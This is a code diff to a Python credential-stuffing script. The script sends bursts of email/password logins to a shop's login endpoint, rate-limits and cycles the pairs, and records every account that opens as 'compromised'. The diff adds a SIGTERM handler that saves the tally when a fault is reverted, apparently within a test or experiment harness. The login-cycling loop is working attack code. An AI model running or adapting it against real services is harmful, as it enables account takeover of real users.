@@ -15,6 +15,7 @@ from __future__ import annotations
 import argparse
 import json
 import os
+import signal
 import sys
 import time
 from pathlib import Path
@@ -60,6 +61,16 @@ def main(argv: list[str] | None = None) -> int:
         "last_success_wall": None,
         "statuses": {},
     }
+    # Stopped by the fault's revert (SIGTERM): the tally is written on the way out.
+    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
+    try:
+        _run(args, pairs, tally)
+    finally:
+        _write(args.tally, tally)
+    return 0
+
+
+def _run(args: argparse.Namespace, pairs: list[tuple[str, str]], tally: dict[str, Any]) -> None:
     transport = httpx.HTTPTransport(local_address=args.source)
     interval = max(args.interval, 0.2)
     burst = max(1, min(args.burst, 50))
@@ -72,29 +83,31 @@ def main(argv: list[str] | None = None) -> int:
             for _ in range(burst):
                 email, password = todo[cursor % len(todo)]
                 cursor += 1
-                _attempt(client, email, password, tally)
+                if _attempt(client, email, password, tally):
+                    _write(args.tally, tally)  # an account opened: on disk at once
             _write(args.tally, tally)
             time.sleep(interval)
-    _write(args.tally, tally)
-    return 0
 
 
-def _attempt(client: httpx.Client, email: str, password: str, tally: dict[str, Any]) -> None:
+def _attempt(client: httpx.Client, email: str, password: str, tally: dict[str, Any]) -> bool:
+    """One login; True when it opened the account."""
     tally["attempts"] += 1
     try:
         response = client.post(LOGIN, json={"email": email, "password": password})
     except httpx.HTTPError as exc:  # the shop restarting: the next burst tries again
         name = type(exc).__name__
         tally["statuses"][name] = tally["statuses"].get(name, 0) + 1
-        return
+        return False
     code = str(response.status_code)
     tally["statuses"][code] = tally["statuses"].get(code, 0) + 1
     if response.status_code == 200:
         tally["compromised"].append(email)
         tally["first_success_wall"] = tally["first_success_wall"] or time.time()
         tally["last_success_wall"] = time.time()
-    elif response.status_code == 401:
+        return True
+    if response.status_code == 401:
         tally["failed"] += 1
+    return False
 
 
 if __name__ == "__main__":
